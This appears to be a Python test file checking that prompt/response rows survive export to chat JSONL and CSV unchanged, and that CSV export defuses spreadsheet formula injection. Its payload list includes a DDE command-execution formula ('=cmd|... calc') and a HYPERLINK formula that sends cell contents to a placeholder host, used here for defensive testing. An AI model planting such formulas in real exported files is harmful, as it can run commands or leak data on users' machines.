"""Rows on their way out, and back in again unchanged."""

import csv
import io
import json
import tempfile
from pathlib import Path

import pytest
from hypothesis import given, settings, strategies as st

from curation.exchange import columns, incoming
from curation.exchange.reading.child import parse
from curation.exchange.source import Source
from curation.versions import layouts_csv
from curation.versions.layout import ExportRow
from curation.versions.layouts import LAYOUTS
from storage.blank import trim
from storage.types import Split

TEXT = st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), max_size=60)
WORDS = TEXT.map(str.strip).filter(lambda text: any(c.isalnum() for c in text) and bool(trim(text)))
ROWS = st.lists(st.tuples(WORDS, WORDS), min_size=1, max_size=5)

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212"]
PAYLOADS = [
    *(f"{start}1+1" for start in STARTS),
    *(f"'{start}1+1" for start in STARTS),
    *(f'"{start}1+1' for start in STARTS),
    *(f"\u200b{start}1+1" for start in STARTS),
    " =1+1",
    "a\n=1+1",
    "''=x",
    "'plain",
    '=HYPERLINK("https://x.example/?q="&A1)',
    "=cmd|' /C calc'!A0",
    "a;=1+1",
]


def chat(rows: list[tuple[str, str]], system: str) -> bytes:
    """The rows as the training file of a chat export."""
    parts = {Split.TRAIN: [ExportRow(1, "gold", *row) for row in rows]}
    return LAYOUTS["chat"].write(parts, system).files["data/train.jsonl"]


def back(content: bytes, name: str) -> list[tuple[str, str]]:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / name
        path.write_bytes(content)
        table = parse(Source(path, name))
    preview = incoming.apply(table, columns.suggest(table), "")
    return [(row.prompt, row.response) for row in preview.take(name)]


@settings(max_examples=150, deadline=None)
@given(ROWS, TEXT)
def test_chat_lines_come_back_unchanged(rows: list[tuple[str, str]], system: str) -> None:
    content = chat(rows, system)
    assert back(content, "a.jsonl") == rows
    assert len(content.decode().splitlines()) == len(rows)
    assert content == chat(rows, system)


@settings(max_examples=150, deadline=None)
@given(ROWS)
def test_csv_comes_back_unchanged(rows: list[tuple[str, str]]) -> None:
    assert back(layouts_csv.to_csv(["prompt", "response"], rows), "a.csv") == rows


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_is_a_formula_and_all_come_back(payload: str) -> None:
    content = layouts_csv.to_csv(
        ["prompt", "response"], [(payload, "x"), ("x", payload), ("'", "x")]
    )
    for cells in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
        for cell in cells:
            assert cell[:1] not in STARTS
    assert back(content, "a.csv") == [
        (payload.strip(), "x"),
        ("x", payload.strip()),
        ("'", "x"),
    ]


def test_a_stranger_apostrophe_is_not_taken_away() -> None:
    assert back(b"prompt,response\n'=1+1,'-x\n", "a.csv") == [("'=1+1", "'-x")]


def test_chat_lines_are_canonical() -> None:
    rows = [("Grüße\u2028", "=1")]
    assert (
        chat(rows, "S")
        == (
            '{"messages":[{"role":"system","content":"S"},'
            '{"role":"user","content":"Grüße\\u2028"},{"role":"assistant","content":"=1"}]}\n'
        ).encode()
    )
    assert len(json.loads(chat(rows, ""))["messages"]) == 2


def test_the_added_column_may_not_be_there_already() -> None:
    with pytest.raises(ValueError, match="is the column that is added"):
        layouts_csv.to_csv(["assay_escaped"], [])
